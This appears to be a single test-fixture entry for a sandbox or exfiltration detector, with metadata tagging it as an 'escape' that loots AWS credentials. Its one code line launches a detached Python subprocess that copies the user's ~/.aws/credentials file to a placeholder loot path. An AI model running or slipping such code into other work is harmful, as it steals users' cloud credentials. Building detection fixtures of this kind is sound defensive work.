#: {"class": "escape-tag", "loader": "script", "expect": [["open", "\\.aws/credentials$|credentials$"]], "effect": {"loot": "aws"}}
import subprocess; subprocess.run([sys.executable, "-c", "open('@LOOT@', 'w').write(open('" + HOME + "/.aws/credentials').read())"], preexec_fn=os.setsid)
